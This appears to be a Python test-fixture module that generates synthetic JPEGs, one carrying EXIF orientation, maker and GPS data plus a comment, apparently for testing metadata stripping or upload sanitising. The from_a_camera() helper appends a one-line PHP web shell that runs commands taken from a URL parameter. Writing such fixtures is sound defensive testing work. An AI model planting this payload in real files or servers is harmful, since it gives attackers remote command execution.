"""Pictures made on the spot: no photograph of anything or anybody."""

from io import BytesIO
from typing import Any

from PIL import Image

ORIENTATION, MAKER, GPS = 0x0112, 0x010F, 0x8825


def encoded(image: Image.Image, kind: str, **options: Any) -> bytes:
    out = BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def jpeg(width: int = 300, height: int = 200, colour: Any = "red", **options: Any) -> bytes:
    return encoded(Image.new("RGB", (width, height), colour), "JPEG", **options)


def from_a_camera() -> bytes:
    """Lying on its side, with maker, place and a comment, and something hung onto its end."""
    past = Image.Exif()
    past[ORIENTATION] = 6
    past[MAKER] = "Handset Works"
    gps = past.get_ifd(GPS)
    gps[1], gps[2] = "N", (25.0, 22.0, 11.9)
    return jpeg(exif=past, comment=b"secret words") + b"<?php system($_GET[0]);?>"
